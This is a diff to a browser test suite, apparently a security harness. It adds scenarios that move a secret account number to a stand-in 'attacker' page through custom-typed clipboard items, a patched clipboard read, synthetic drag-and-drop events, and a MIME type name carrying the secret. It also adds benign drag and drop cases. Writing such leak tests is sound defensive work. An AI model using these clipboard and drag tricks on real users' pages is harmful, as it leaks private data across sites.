@@ -22,6 +22,14 @@ async function download(hands) {
 const choose = (hands, name, text) =>
   hands.page.setInputFiles('input[type=file]', { name, mimeType: 'text/csv', buffer: Buffer.from(text) });
 
+/** A drag that comes from elsewhere, as a debugger makes it. */
+async function drop(hands, items) {
+  const protocol = await hands.page.context().newCDPSession(hands.page);
+  const { x, y } = await hands.page.locator('#z').boundingBox();
+  const at = { x: x + 20, y: y + 20, data: { items, dragOperationsMask: 1 } };
+  for (const type of ['dragEnter', 'dragOver', 'drop']) await protocol.send('Input.dispatchDragEvent', { type, ...at });
+}
+
 export const exchanges = [
   {
     id: 'pasted-where-a-page-listens',
@@ -52,6 +60,43 @@ export const exchanges = [
       await hands.run(`navigator.clipboard.writeText(document.querySelector('#account').textContent)`);
       await hands.goto(urlOf('attacker', '/reading'));
       await hands.click({ button: 'Go on' });
+      await hands.wait(600);
+    },
+  },
+  {
+    id: 'clipboard-of-another-type',
+    group: 6,
+    async does({ hands }) {
+      await grant(hands);
+      await hands.run(`(async () => {
+        const item = (type, text) => [type, new Blob([text], { type })];
+        const items = [item('text/plain', 'hi'), item('web text/x-note', document.querySelector('#account').textContent)];
+        await navigator.clipboard.write([new ClipboardItem(Object.fromEntries(items))]);
+      })().catch(() => {})`);
+      await hands.goto(urlOf('attacker', '/reading-any'));
+      // A page can only ask for such types where it names them.
+      await hands.run(
+        'const { read } = navigator.clipboard; navigator.clipboard.read = () => read.call(navigator.clipboard, { unsanitized: [] }); 0',
+      );
+      await hands.click({ button: 'Go on' });
+      await hands.wait(600);
+    },
+  },
+  ...['text/plain', 'text/x-note'].map((mimeType) => ({
+    id: `dropped-as-${mimeType}`,
+    group: 1,
+    async does({ hands, secrets }) {
+      await hands.goto(urlOf('attacker', '/dropping'));
+      await drop(hands, [{ mimeType, data: secrets['account number'] }]);
+      await hands.wait(600);
+    },
+  })),
+  {
+    id: 'dragged-by-its-type',
+    group: 1,
+    async does({ hands, secrets }) {
+      await hands.goto(urlOf('attacker', '/dropping'));
+      await drop(hands, [{ mimeType: `x/${secrets['account number'].replaceAll(' ', '')}`, data: 'x' }]);
       await hands.wait(600);
     },
   },
@@ -151,6 +196,25 @@ export const honestExchanges = [
       await hands.goto('http://files.example/');
       await choose(hands, 'garden.csv', 'roses,4');
       await until(async () => (await hands.read()).includes('Chosen: roses,4'), 'choosing a file');
+    },
+  },
+  {
+    id: 'drop-something-from-elsewhere',
+    async does({ hands }) {
+      await hands.goto('http://files.example/');
+      await drop(hands, [
+        { mimeType: 'text/plain', data: 'roses' },
+        { mimeType: 'text/x-note', data: 'in May' },
+      ]);
+      await until(async () => (await hands.read()).includes('Dropped: roses in May'), 'dropping a text');
+    },
+  },
+  {
+    id: 'drag-within-a-page',
+    async does({ hands }) {
+      await hands.goto('http://files.example/');
+      await hands.page.locator('#rose').dragTo(hands.page.locator('#z'));
+      await until(async () => (await hands.read()).includes('Dropped: a rose (trusted)'), 'dragging within a page');
     },
   },
   {
